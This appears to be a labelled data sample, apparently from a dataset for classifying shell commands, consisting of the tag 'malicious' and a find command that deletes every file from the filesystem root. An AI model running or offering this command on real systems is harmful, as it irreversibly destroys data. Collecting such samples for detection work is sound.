# label: malicious
find / -type f -name "*" -delete
